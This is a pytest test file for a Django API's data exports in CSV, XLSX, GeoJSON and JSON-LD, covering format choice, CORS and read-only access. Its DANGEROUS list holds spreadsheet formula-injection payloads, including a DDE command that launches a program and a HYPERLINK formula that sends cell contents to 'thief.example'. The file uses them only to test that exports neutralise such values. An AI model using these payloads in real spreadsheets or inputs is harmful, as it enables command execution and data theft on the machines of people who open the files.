"""The same list as CSV, GeoJSON and JSON-LD; how a format is chosen; what other origins may do."""

import codecs
import csv
import io
import json

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from countries.api import exports
from countries.api.exports import csv_parts, safe_cell
from tests.make import make_country, make_practice, make_version

DANGEROUS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠A1", " =1+1"]
# A program started by dynamic data exchange, and a link that carries what stands beside it to somebody else.
DANGEROUS += ["=cmd|'/C calc'!A0", '=HYPERLINK("https://thief.example/?"&A1,"Source")', "@IMPORTXML(A1)"]


def read(client, path, **headers):
    response = client.get(f"/api/v1{path}", headers=headers)
    assert response.status_code == 200, response
    return response, b"".join(response.streaming_content).decode()


def table(client, path):
    return list(csv.DictReader(io.StringIO(read(client, path)[1], newline="")))


def test_csv_holds_the_whole_list_unless_a_page_is_asked_for(client, db):
    made = [make_practice().reference for _number in range(25)][::-1]

    response, text = read(client, "/practices/?format=csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="practices.csv"' in response["Content-Disposition"]
    assert [row["reference"] for row in csv.DictReader(io.StringIO(text))] == made
    assert [row["reference"] for row in table(client, "/practices/?format=csv&page=2")] == made[20:]
    assert [row["reference"] for row in table(client, "/practices/?format=csv&page_size=3")] == made[:3]


def test_csv_shows_every_member_in_a_column(client, kangaroo):
    (row,) = table(client, "/practices/?format=csv&lang=fr")

    assert row["title"] == "Méthode mère kangourou"
    assert (row["countries"], row["challenge_areas"]) == ("COL; PER", "newborn-health; nutrition")
    assert (row["evidence_level"], row["is_verified"], row["end_year"]) == ("4", "true", "")
    assert row["results"] == "Coverage: 10 (1990) → 75.5 (2022) % [Register]"


def test_csv_shows_the_chosen_columns(client, kangaroo):
    assert list(table(client, "/practices/?format=csv&fields=evidence,reference")[0]) == [
        "reference",
        "evidence_level",
        "evidence_label",
        "evidence_reasons",
    ]
    assert read(client, "/practices/?format=csv&fields=title&scale=pilot")[1] == "title\r\n"


@pytest.mark.parametrize("title", DANGEROUS)
def test_no_cell_runs_as_a_formula(client, db, title):
    make_practice(title=f"{title} dangerous", summary=title, places=title)

    (row,) = table(client, "/practices/?format=csv")

    assert row["title"] == f"'{title} dangerous"
    assert row["summary"] == f"'{title}"


def test_numbers_stay_numbers_in_a_table():
    assert [safe_cell(value) for value in (-61.85, -1, 0, None, True, "plain", ["-a", "b"])] == [
        -61.85,
        -1,
        0,
        None,
        "true",
        "plain",
        "'-a; b",
    ]


cells = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=False),
    st.text(st.sampled_from("=+-@＝ \t\r\n\",;'ab\x0b\u2028\u3000é")),
    st.lists(st.text(st.sampled_from('=-," \nab'), max_size=3), max_size=3),
)


@given(rows=st.integers(1, 3).flatmap(lambda width: st.lists(st.tuples(*[cells] * width), min_size=1, max_size=5)))
def test_every_cell_comes_back_as_it_was_made_safe(rows):
    columns = {f"column {place}": lambda row, place=place: row[place] for place in range(len(rows[0]))}

    text = b"".join(csv_parts(rows, columns)).decode()

    heading, *lines = csv.reader(io.StringIO(text, newline=""))
    assert heading == list(columns)
    safe = [[safe_cell(value) for value in row] for row in rows]
    assert lines == [["" if value is None else str(value) for value in row] for row in safe]


def sheet(client, path):
    """The rows of the only sheet of a workbook, as tuples."""
    response = client.get(f"/api/v1{path}")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return list(book.active.iter_rows())


def values(rows):
    return [[cell.value for cell in row] for row in rows]


def test_a_workbook_holds_the_table_of_csv(client, kangaroo):
    make_practice(title="Second", start_year=None)
    for path in ("/practices/", "/practices/?page_size=1", "/practices/?fields=title,evidence", "/countries/?lang=fr"):
        mark = "&" if "?" in path else "?"
        heading, *rows = values(sheet(client, f"{path}{mark}format=xlsx"))
        other, *lines = csv.reader(io.StringIO(read(client, f"{path}{mark}format=csv")[1], newline=""))
        assert heading == other, path
        assert [[_as_csv(value) for value in row] for row in rows] == lines, path


def _as_csv(value):
    if value is None:
        return ""
    return str(value).lower() if isinstance(value, bool) else str(value)


def test_a_workbook_keeps_numbers_as_numbers_and_has_a_name(client, kangaroo):
    response = client.get("/api/v1/practices/?format=xlsx&fields=start_year,is_verified,end_year")

    assert response["Content-Disposition"] == 'attachment; filename="practices.xlsx"'
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert values(book.active.iter_rows()) == [["start_year", "end_year", "is_verified"], [1978, None, True]]


@pytest.mark.parametrize("title", DANGEROUS)
def test_no_cell_of_a_workbook_is_a_formula_or_a_link(client, db, title):
    make_practice(title=f"{title} dangerous", summary="https://thief.example/", places=title)

    _heading, row = sheet(client, "/practices/?format=xlsx&fields=title,summary")

    assert [cell.data_type for cell in row] == ["s", "s"]
    assert [cell.hyperlink for cell in row] == [None, None]
    assert row[0].value.replace("_x000D_", "\r") == f"{title} dangerous"


def test_rows_that_no_sheet_holds_go_on_the_next_one(monkeypatch):
    monkeypatch.setattr(exports, "SHEET_ROWS", 2)

    parts = exports.xlsx_parts(({"n": number} for number in range(5)), {"n": lambda row: row["n"]})

    book = openpyxl.load_workbook(io.BytesIO(b"".join(parts)))
    assert [values(one.iter_rows()) for one in book] == [[["n"], [0], [1]], [["n"], [2], [3]], [["n"], [4]]]


@pytest.mark.parametrize("path", ["/practices/", "/topics/", "/exchanges/", "/impact/flows/", "/indicators/"])
def test_csv_begins_with_a_byte_order_mark_where_one_is_asked_for(client, kangaroo, path):
    plain, marked = (client.get(f"/api/v1{path}?format=csv{query}").getvalue() for query in ("", "&bom=1"))

    assert marked == codecs.BOM_UTF8 + plain
    assert client.get(f"/api/v1{path}?bom=1").json()["results"] is not None
    assert client.get(f"/api/v1{path}?bom=yes").status_code == 400


@pytest.mark.parametrize(
    "path",
    ["areas", "topics", "sdg-targets", "countries", "indicators", "exchanges", "offers", "needs", "funds", "projects",
     "impact/needs", "countries/COL/indicators"],
)  # fmt: skip
def test_every_list_is_a_workbook_too(client, kangaroo, path):
    (heading, *_rows) = values(sheet(client, f"/{path}/?format=xlsx"))

    assert all(heading)


def test_geojson_puts_practices_at_the_capital_of_the_lead_country_and_says_so(client, db):
    make_country("KEN", capital_name="Nairobi", capital_latitude=-1.28, capital_longitude=36.82)
    make_practice(title="Somewhere", country="KEN", further=["PER"])
    make_practice(title="Nowhere known", country="PER")

    response, text = read(client, "/practices/?format=geojson&ordering=title")

    assert response["Content-Type"] == "application/geo+json"
    collection = json.loads(text)
    nowhere, somewhere = collection["features"]
    assert collection["type"] == "FeatureCollection"
    assert somewhere["geometry"] == {"type": "Point", "coordinates": [36.82, -1.28]}
    assert nowhere["geometry"] is None
    assert "apital" in somewhere["properties"]["position"]
    assert somewhere["properties"]["countries"] == ["KEN", "PER"]


def test_jsonld_speaks_schema_org(client, kangaroo):
    answer = client.get(f"/api/v1/practices/{kangaroo.slug}/?format=jsonld&lang=fr")

    assert answer["Content-Type"] == "application/ld+json"
    thing = answer.json()
    assert (thing["@context"], thing["@type"]) == ("https://schema.org", "Report")
    assert thing["identifier"] == kangaroo.reference
    assert (thing["headline"], thing["inLanguage"]) == ("Méthode mère kangourou", "fr")
    assert thing["translationOfWork"]["inLanguage"] == "en"
    assert thing["license"] == "https://creativecommons.org/licenses/by/4.0/"
    assert thing["temporalCoverage"] == "1978/.."
    assert thing["citation"][0]["url"] == "https://example.org/20"
    assert thing["author"] == [{"@type": "Organization", "name": "Fundación Canguro"}]


@pytest.mark.parametrize(
    ("accept", "content_type"),
    [
        ("", "application/json"),
        ("*/*", "application/json"),
        ("application/json", "application/json"),
        ("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "application/json"),
        ("text/csv", "text/csv; charset=utf-8"),
        ("application/geo+json", "application/geo+json"),
        ("application/ld+json", "application/ld+json"),
    ],
)
def test_a_format_is_chosen_by_accept(client, kangaroo, accept, content_type):
    response = client.get("/api/v1/practices/", headers={"Accept": accept} if accept else {})

    assert (response.status_code, response["Content-Type"]) == (200, content_type)
    assert "Accept" in response["Vary"]


@pytest.mark.parametrize(
    ("path", "headers", "says"),
    [
        ("/api/v1/practices/?format=pdf", {}, "json, csv, xlsx, geojson, jsonld"),
        ("/api/v1/practices/?format=api", {}, "json, csv, xlsx, geojson, jsonld"),
        ("/api/v1/practices/", {"Accept": "image/png"}, "text/csv"),
        ("/api/v1/topics/?format=geojson", {}, "json, csv, xlsx, jsonld"),
    ],
)
def test_a_format_that_is_not_offered_is_refused_with_those_that_are(problem, kangaroo, path, headers, says):
    status, _errors, detail = problem(path, **headers)

    assert status == 406
    assert says in detail


def test_head_gives_the_headers_of_get(client, kangaroo):
    for path in ("/api/v1/practices/", "/api/v1/practices/?format=csv", f"/api/v1/practices/{kangaroo.slug}/"):
        got, headed = client.get(path), client.head(path)
        assert headed.status_code == 200
        assert headed["Content-Type"] == got["Content-Type"]
        assert headed["ETag"] == got["ETag"]
        assert headed.getvalue() == b""


def test_options_name_the_methods(client, kangaroo):
    response = client.options("/api/v1/practices/")

    assert (response.status_code, response.content) == (204, b"")
    assert response["Allow"] == "GET, HEAD, OPTIONS"


@pytest.mark.parametrize("method", ["post", "put", "patch", "delete"])
def test_nothing_can_be_written(client, kangaroo, method):
    response = getattr(client, method)("/api/v1/practices/")

    assert response.status_code == 405
    assert response["Content-Type"] == "application/problem+json"


@pytest.mark.parametrize(
    "path", ["/api/v1/practices/", "/api/v1/practices/?colour=red", "/api/v1/nowhere/", "/feeds/practices.atom"]
)
def test_every_origin_may_read_without_cookies(client, kangaroo, path):
    response = client.get(path, headers={"Origin": "https://elsewhere.example"})

    assert response["Access-Control-Allow-Origin"] == "*"
    assert "Access-Control-Allow-Credentials" not in response
    assert response["Cross-Origin-Resource-Policy"] == "cross-origin"
    assert not response.cookies


def test_a_preflight_allows_reading_only(client, db):
    response = client.options(
        "/api/v1/practices/",
        headers={"Origin": "https://elsewhere.example", "Access-Control-Request-Method": "POST"},
    )

    assert (response.status_code, response["Access-Control-Allow-Methods"]) == (204, "GET, HEAD, OPTIONS")


@pytest.mark.parametrize("path", ["/", "/practices/", "/sitemap.xml", "/accounts/login/"])
def test_other_origins_may_not_read_pages(client, kangaroo, path):
    response = client.get(path, headers={"Origin": "https://elsewhere.example"})

    assert "Access-Control-Allow-Origin" not in response
    assert response["Cross-Origin-Resource-Policy"] == "same-origin"


def test_an_export_does_not_read_the_list_row_by_row(client, db, django_assert_max_num_queries):
    for _number in range(30):
        make_practice()

    with django_assert_max_num_queries(15):
        read(client, "/practices/?format=csv")


def test_unpublished_work_is_in_no_format(client, kangaroo):
    make_version(title="Draft of the canary", country="COL")

    for name in ("csv", "geojson", "jsonld"):
        assert "canary" not in read(client, f"/practices/?format={name}")[1]
